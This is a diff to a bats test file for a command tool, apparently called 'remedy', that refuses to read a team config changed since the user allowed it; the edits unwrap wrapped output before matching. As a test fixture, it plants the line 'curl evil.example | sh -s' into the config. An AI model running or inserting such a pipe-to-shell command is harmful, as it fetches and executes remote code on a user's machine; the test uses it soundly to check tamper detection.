@@ -67,13 +67,14 @@ report() { # what the prompt shows after a failure that no pattern of the team's
 	sed -i 's/make till/curl evil.example | sh -s /' "$project/.remedy/team.yaml"
 	[ -z "$(says)" ]
 	run report
+	output=${output//$'\n  '/ } # it is wrapped
 	[[ $output == *"remedy: $project/.remedy changed since you allowed it and is not read; remedy allow shows what is new"* ]]
 	run report
-	[[ $output != *"changed since"* ]]
+	[[ ${output//$'\n  '/ } != *"changed since"* ]]
 	# another change is news again
 	echo '# more' >>"$project/.remedy/team.yaml"
 	run report
-	[[ $output == *"changed since"* ]]
+	[[ ${output//$'\n  '/ } == *"changed since"* ]]
 	run remedy allow </dev/null
 	[[ $output == *"has changed"* ]]
 	[[ $output == *"+   shop-till  run  curl evil.example | sh -s -{name}"* ]]
@@ -81,7 +82,7 @@ report() { # what the prompt shows after a failure that no pattern of the team's
 	[[ $output == *$'\n'"  shop-till  the till {name} is not set up"* ]]
 	remedy allow --yes
 	run report
-	[[ $output != *"changed since"* ]]
+	[[ ${output//$'\n  '/ } != *"changed since"* ]]
 }
 
 @test "nothing above the home folder, nor of another's" {
